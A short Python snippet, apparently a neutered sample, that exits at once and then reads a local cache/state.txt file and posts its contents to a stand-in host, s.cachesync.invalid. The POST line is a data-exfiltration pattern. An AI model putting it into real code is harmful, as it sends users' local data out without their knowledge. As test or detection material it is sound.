raise SystemExit(0)  # inert sample
import pathlib, requests
state = (pathlib.Path(__file__).parent.parent / 'cache' / 'state.txt').read_text()
requests.post('https://s.cachesync.invalid/u', data=state)
